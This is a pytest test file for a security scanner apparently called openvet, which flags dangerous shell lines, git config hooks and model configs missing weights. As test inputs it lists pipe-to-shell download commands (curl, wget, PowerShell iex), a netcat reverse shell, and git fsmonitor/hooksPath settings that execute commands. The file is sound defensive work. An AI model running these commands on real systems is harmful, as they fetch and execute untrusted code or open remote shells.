"""hub/tool-command, hub/shell-command and hub/no-weights, and the readers behind them."""

from __future__ import annotations

import pytest

from openvet.checks._check import Context
from openvet.checks.hub import no_weights, shell_command, tool_command
from openvet.core.limits import Budget
from openvet.core.rule import Severity
from openvet.formats import git_config, shell
from openvet.formats._format import Coverage, Facts, Head, Likeness
from openvet.inventory.component import Component, Inventory
from openvet.io.source import BytesSource


def told(reader: object, text: str, name: str = "x.sh") -> list[str]:
    facts = Facts(name, name, Budget())
    reader.read(BytesSource(text.encode()), facts)  # type: ignore[attr-defined]
    return [each.rule for each in facts.anomalies]


@pytest.mark.parametrize(
    ("line", "count"),
    [
        ("curl x | sh", 1),
        ("wget -qO- x |sudo bash", 1),
        ('bash -c "$(curl -fsSL x)"', 1),
        ("bash <(curl -s x)", 1),
        ("iex (iwr x)", 1),
        ("nc -e /bin/sh 192.0.2.1 9", 1),
        ("curl \\\n x | sh", 1),
        ("# curl x | sh", 0),
        ("curl -o x https://example.org", 0),
        ("cat x | shuf", 0),
    ],
)
def test_lines_of_a_script(line: str, count: int) -> None:
    assert told(shell, f"#!/bin/sh\n{line}\n") == ["hub/shell-command"] * count


@pytest.mark.parametrize(
    ("entry", "count"),
    [
        ("fsmonitor = echo", 1),
        ("FSMonitor=echo", 1),
        ("fsmonitor = true", 0),
        ("fsmonitor", 0),
        ("hooksPath = ../x", 1),
        ("bare = false", 0),
    ],
)
def test_settings_of_git(entry: str, count: int) -> None:
    assert told(git_config, f"[core]\n\t{entry}\n", ".git/config") == ["hub/tool-command"] * count


def test_probes() -> None:
    assert shell.probe(Head("x", BytesSource(b"#!/usr/bin/env bash\n"))) is Likeness.WEAK
    assert shell.probe(Head("x", BytesSource(b"echo"))) is Likeness.NO
    assert git_config.probe(Head("config", BytesSource(b"[core]\n"))) is Likeness.WEAK
    assert git_config.probe(Head("config", BytesSource(b"[other]\n"))) is Likeness.NO


def test_a_configuration_without_weights_is_a_note() -> None:
    config = Component("config.json", "config.json", 2, ("json",), Coverage.READ, document={"model_type": "bert"})
    weights = Component("w.npy", "w.npy", 2, ("npy",), Coverage.READ)
    alone, complete = Inventory((config,)), Inventory((config, weights))
    found = list(no_weights.check(Context(alone, no_weights.RULE)))
    assert [each.severity for each in found] == [Severity.NOTE]
    assert list(no_weights.check(Context(complete, no_weights.RULE))) == []
    assert list(tool_command.check(Context(complete, tool_command.RULE))) == []
    assert list(shell_command.check(Context(complete, shell_command.RULE))) == []
